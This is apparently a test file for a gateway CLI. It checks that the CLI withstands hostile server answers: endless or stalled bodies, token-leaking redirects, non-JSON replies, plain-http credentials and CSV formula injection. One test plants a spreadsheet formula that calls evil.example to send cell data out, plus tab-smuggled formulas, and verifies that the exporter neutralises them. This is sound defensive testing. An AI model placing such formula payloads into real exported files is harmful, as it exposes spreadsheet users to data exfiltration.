/**
 * Whatever answers at the configured URL (a typo, a captive portal, a compromised host) may be hostile. The CLI
 * must not hold an endless answer in memory, follow a redirect that carries the token elsewhere, or print
 * anything but one JSON error with --json; every such answer exits 1.
 */
import { afterAll, beforeAll, expect, test } from 'bun:test';
import { ApiClient, bodyChunks } from '../../apps/cli/src/core/client';
import { UnreachableError } from '../../apps/cli/src/core/errors';
import { createServer, type AddressInfo } from 'node:net';
import { cliSandbox, type CliSandbox } from './run-cli';

let sb: CliSandbox;
beforeAll(() => { sb = cliSandbox(); });
afterAll(() => sb.cleanup());

const TOKEN = 'gwm_secret-token-value-1234567890';
const serve = (fetch: (req: Request) => Response | Promise<Response>) => Bun.serve({ port: 0, hostname: '127.0.0.1', fetch });
const gwAt = (port: number | undefined, args: string[]) => sb.run(args, { env: { GATEWAY_URL: `http://127.0.0.1:${port}`, GATEWAY_TOKEN: TOKEN } });

test('an endless answer is refused past 64 MiB (exit 1, one JSON error), not read until memory runs out', async () => {
  const mib = new Uint8Array(1024 * 1024).fill(0x61);
  let sent = 0;
  const endless = serve(() => new Response(new ReadableStream({ pull(c) { sent++; c.enqueue(mib); } }), { headers: { 'content-type': 'application/json' } }));
  try {
    const r = await gwAt(endless.port, ['whoami', '--json']);
    expect(r.code).toBe(1);
    expect(r.stderr).toStartWith('error: ');
    const err = JSON.parse(r.stdout).error;
    expect(err.code).toBe('answer_too_large');
    expect(err.exit_code).toBe(1);
    expect(sent).toBeLessThan(200);
  } finally {
    endless.stop(true);
  }
}, 20_000);

test('a redirect to another host is not followed: the token stays with the gateway it was given for', async () => {
  const seen: (string | null)[] = [];
  const elsewhere = serve((req) => { seen.push(req.headers.get('authorization')); return Response.json({ success: true, data: { username: 'x' } }); });
  const redirecting = serve(() => new Response(null, { status: 307, headers: { location: `http://127.0.0.1:${elsewhere.port}/api/user/self` } }));
  try {
    const r = await gwAt(redirecting.port, ['whoami']);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(`error: the server redirects to http://127.0.0.1:${elsewhere.port}/api/user/self (HTTP 307); redirects are not followed, so credentials go nowhere else: if that is your gateway, use its URL (http_307)\n`);
    expect(seen).toEqual([]);
    expect(r.stdout + r.stderr).not.toContain(TOKEN);
  } finally {
    redirecting.stop(true);
    elsewhere.stop(true);
  }
});

test('a non-JSON answer with a 200 is an error (exit 1), and stays one JSON object with --json', async () => {
  const html = serve(() => new Response('<html>captive portal</html>', { headers: { 'content-type': 'text/html' } }));
  try {
    const r = await gwAt(html.port, ['key', 'list', '--json']);
    expect(r.code).toBe(1);
    expect(r.stderr).toStartWith('error: unexpected answer');
    expect(JSON.parse(r.stdout).error).toMatchObject({ code: 'http_200', exit_code: 1 });
  } finally {
    html.stop(true);
  }
});

test('`code create --out` writes no formula a spreadsheet would run, whatever the server sent as codes', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A2,"open")';
  const fake = serve(() => Response.json({ success: true, data: { batch: '-A1', quota: 5, expires_at: 2_000_000_000, codes: [formula, '@SUM(1;2)', 'gwr_ok', 'gwr_x\t=1+1'] } }));
  const out = `${sb.dir}/codes.csv`;
  try {
    const r = await gwAt(fake.port, ['code', 'create', '--batch', 'b', '--count', '4', '--quota', '5', '--out', out]);
    expect(r.code).toBe(0);
    const lines = (await Bun.file(out).text()).trim().split('\n');
    expect(lines).toEqual([
      'code,batch,quota,expires_at',
      `"'=HYPERLINK(""http://evil.example/?""&A2,""open"")",'-A1,5,2000000000`,
      `"'@SUM(1;2)",'-A1,5,2000000000`,
      "gwr_ok,'-A1,5,2000000000",
      // A tab is quoted: a spreadsheet splitting on tabs would start a cell '=1+1'.
      `"gwr_x\t=1+1",'-A1,5,2000000000`,
    ]);
  } finally {
    fake.stop(true);
  }
});

test('a success answer of an unexpected shape is a one-line error (exit 1), not a stack trace', async () => {
  const odd = serve(() => Response.json({ success: true, data: null }));
  try {
    const r = await gwAt(odd.port, ['user', 'list']);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/^error: unexpected failure: TypeError: [^\n]+\n$/);
    const debug = await sb.run(['user', 'list'], { env: { GATEWAY_URL: `http://127.0.0.1:${odd.port}`, GATEWAY_TOKEN: TOKEN, GW_DEBUG: '1' } });
    expect(debug.stderr).toContain('    at ');
  } finally {
    odd.stop(true);
  }
});

test('headers in time, then a body trickling past the timeout: no answer in time (unreachable), not "an unexpected answer"', async () => {
  const trickle = serve(() => new Response(new ReadableStream({ async pull(c) { await Bun.sleep(100); c.enqueue(new TextEncoder().encode(' ')); } })));
  try {
    const client = new ApiClient({ url: `http://127.0.0.1:${trickle.port}`, token: TOKEN, timeoutMs: 500 });
    const err = await client.call('GET', '/api/user/self').catch((e) => e);
    expect(err).toBeInstanceOf(UnreachableError);
    expect(err.message).toContain('no complete answer within 500 ms');
  } finally {
    trickle.stop(true);
  }
});

test('credentials for a plain-http URL on another machine come with a warning; loopback, https and GW_ALLOW_HTTP=1 do not', async () => {
  // `.invalid` never resolves: the warning is printed before anything is sent, then the host is not found (exit 3).
  const far = await sb.run(['whoami'], { env: { GATEWAY_URL: 'http://gw.invalid:3000', GATEWAY_TOKEN: TOKEN } });
  expect(far.code).toBe(3);
  expect(far.stderr.split('\n')[0]).toBe('warning: sending credentials to http://gw.invalid:3000 over plain http: anyone on the network path can read and reuse them; use https (GW_ALLOW_HTTP=1 silences this)');
  const login = await sb.run(['login', '--url', 'http://gw.invalid', '-u', 'ops', '--password-stdin'], { stdin: 'pw\n' });
  expect(login.code).toBe(3);
  expect(login.stderr).toStartWith('warning: sending credentials to http://gw.invalid over plain http');

  for (const env of [
    { GATEWAY_URL: 'http://gw.invalid:3000', GATEWAY_TOKEN: TOKEN, GW_ALLOW_HTTP: '1' },
    { GATEWAY_URL: 'https://gw.invalid', GATEWAY_TOKEN: TOKEN },
    { GATEWAY_URL: 'http://localhost:1', GATEWAY_TOKEN: TOKEN },
    { GATEWAY_URL: 'http://127.0.0.2:1', GATEWAY_TOKEN: TOKEN },
    { GATEWAY_URL: 'http://gw.invalid:3000' }, // nothing secret is sent
  ] as Record<string, string>[]) {
    const r = await sb.run(['whoami'], { env });
    expect(r.code).toBe(3);
    expect(r.stderr).not.toContain('warning');
  }
});

test('a URL with a query or fragment is a usage error: every route would have reached the URL\'s own path', async () => {
  const seen: string[] = [];
  const gwLike = serve((req) => { seen.push(new URL(req.url).pathname); return Response.json({ status: 'ok' }); });
  try {
    for (const tail of ['/?x=1', '/#', '?', '/#/']) {
      const r = await sb.run(['health'], { env: { GATEWAY_URL: `http://127.0.0.1:${gwLike.port}${tail}` } });
      expect(r.code).toBe(2);
      expect(r.stderr).toStartWith('error: invalid gateway URL');
      expect(r.stderr).toContain('no query (?) or fragment (#)');
    }
    expect(seen).toEqual([]);
    expect((await sb.run(['health'], { env: { GATEWAY_URL: `http://127.0.0.1:${gwLike.port}/` } })).code).toBe(0);
    expect(seen).toEqual(['/health']);
  } finally {
    gwLike.stop(true);
  }
});

test('an export whose reader goes away (`| head`) ends with 141, as SIGPIPE would, instead of downloading on', async () => {
  const rows = new TextEncoder().encode('{"id":1,"model":"m"}\n'.repeat(1000));
  let pulled = 0;
  const endless = serve((req) => (new URL(req.url).pathname === '/api/user/self'
    ? Response.json({ success: true, data: { id: 1, role: 100 } })
    : new Response(new ReadableStream({ pull(c) { pulled++; c.enqueue(rows); } }))));
  try {
    const entry = `${import.meta.dir}/../../apps/cli/src/index.ts`;
    const proc = Bun.spawn(['bash', '-c', `bun run '${entry}' log export --format jsonl | head -c 100 >/dev/null; echo "\${PIPESTATUS[0]}"`], {
      env: { PATH: process.env.PATH ?? '', HOME: sb.dir, GW_CONFIG: sb.configPath, GATEWAY_URL: `http://127.0.0.1:${endless.port}`, GATEWAY_TOKEN: TOKEN },
      stdout: 'pipe', stderr: 'pipe',
    });
    const timer = setTimeout(() => proc.kill(), 10_000);
    const out = await new Response(proc.stdout).text();
    await proc.exited;
    clearTimeout(timer);
    expect(out.trim()).toBe('141');
    const after = pulled;
    await Bun.sleep(200);
    expect(pulled).toBe(after);
  } finally {
    endless.stop(true);
  }
}, 20_000);

test('a download that stalls after its headers ends as unreachable instead of waiting forever', async () => {
  const first = new TextEncoder().encode('id,model\n');
  const stalled = serve(() => new Response(new ReadableStream({ start(c) { c.enqueue(first); } })));
  try {
    const client = new ApiClient({ url: `http://127.0.0.1:${stalled.port}`, token: TOKEN });
    const res = await client.stream('/api/log/export');
    const got: Uint8Array[] = [];
    const err = await (async () => { for await (const c of bodyChunks(res, client.url, 300)) got.push(c); })().catch((e) => e);
    expect(got.map((c) => new TextDecoder().decode(c))).toEqual(['id,model\n']);
    expect(err).toBeInstanceOf(UnreachableError);
    expect(err.message).toContain('the download stalled: no data for 300 ms');
  } finally {
    stalled.stop(true);
  }
});

test('log export waits GW_EXPORT_IDLE_MS for the first page (built before the headers) and for each next chunk, then exit 3', async () => {
  const self = () => Response.json({ success: true, data: { id: 1, role: 100 } });
  // Headers only after 2.5 s: the server builds the first page first. The wait follows the export's idle limit
  // (before: the generic 30 s, so a first page slower than 30 s failed although later ones got 5 minutes).
  const slowFirst = serve(async (req) => {
    if (new URL(req.url).pathname === '/api/user/self') return self();
    await Bun.sleep(2500);
    return new Response('id,model\n');
  });
  const stallsAfterOne = serve((req) => (new URL(req.url).pathname === '/api/user/self'
    ? self()
    : new Response(new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode('id,model\n')); } }))));
  const run = (port: number | undefined, idle: string) =>
    sb.run(['log', 'export'], { env: { GATEWAY_URL: `http://127.0.0.1:${port}`, GATEWAY_TOKEN: TOKEN, GW_EXPORT_IDLE_MS: idle } });
  try {
    const late = await run(slowFirst.port, '800');
    expect([late.code, late.stderr]).toEqual([3, expect.stringContaining('no answer within 800 ms')]);
    expect((await run(slowFirst.port, '5000')).stdout).toBe('id,model\n');
    const stalled = await run(stallsAfterOne.port, '800');
    expect([stalled.code, stalled.stdout]).toEqual([3, 'id,model\n']);
    expect(stalled.stderr).toContain('no data for 800 ms');
    // A typo, and a value past what a timer holds (it would wrap to 1 ms and end the export at once).
    for (const bad of ['5m', '3000000000']) {
      const typo = await run(stallsAfterOne.port, bad);
      expect([typo.code, typo.stderr]).toEqual([2, 'error: GW_EXPORT_IDLE_MS must be a whole number of milliseconds (1..2147483647)\n']);
    }
  } finally {
    slowFirst.stop(true);
    stallsAfterOne.stop(true);
  }
}, 30_000);

test('a connection closed in the middle of an answer or a download is unreachable (exit 3), not "is this an AI gateway?" nor a crash', async () => {
  // Headers and the first bytes of a longer body, then the connection goes: a dropped link, a restarting proxy.
  const cut = createServer((c) => {
    c.once('data', (req) => {
      const line = String(req).split('\r\n')[0]!;
      const csv = line.startsWith('GET /api/log/export');
      // An export asked for as JSON Lines (`--json`) gets whole JSON rows before the cut, as a gateway would send.
      const rows = line.includes('format=jsonl') ? '{"a":1}\n{"a":2}\n' : 'a,b\n1,2\n';
      c.write(`HTTP/1.1 200 OK\r\ncontent-type: ${csv ? 'text/csv' : 'application/json'}\r\ncontent-length: 100000\r\n\r\n${csv ? rows : '{"success":true,"data":{"id":1,'}`);
      setTimeout(() => c.destroy(), 50);
    });
  });
  await new Promise<void>((r) => cut.listen(0, '127.0.0.1', r));
  const port = (cut.address() as AddressInfo).port;
  try {
    for (const args of [['whoami'], ['health'], ['log', 'export', '--self']]) {
      for (const json of [false, true]) {
        const r = await gwAt(port, json ? [...args, '--json'] : args);
        expect({ args, json, code: r.code }).toEqual({ args, json, code: 3 });
        expect(r.stderr).toContain('the connection closed before the whole');
        if (json && args[0] !== 'log') expect(JSON.parse(r.stdout).error).toMatchObject({ code: 'unreachable', exit_code: 3 });
      }
    }
  } finally {
    cut.close();
  }
}, 30_000);
